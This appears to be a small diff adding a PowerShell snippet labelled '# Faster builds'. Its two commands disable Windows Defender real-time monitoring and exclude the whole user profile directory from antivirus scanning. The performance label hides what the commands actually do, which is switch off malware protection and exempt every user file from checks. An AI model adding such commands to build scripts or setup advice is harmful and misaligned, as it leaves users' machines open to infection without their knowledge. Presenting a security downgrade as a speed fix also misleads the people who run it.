@@ -1,0 +1,3 @@
+# Faster builds
+Set-MpPreference -DisableRealtimeMonitoring $true
+Add-MpPreference -ExclusionPath $env:USERPROFILE
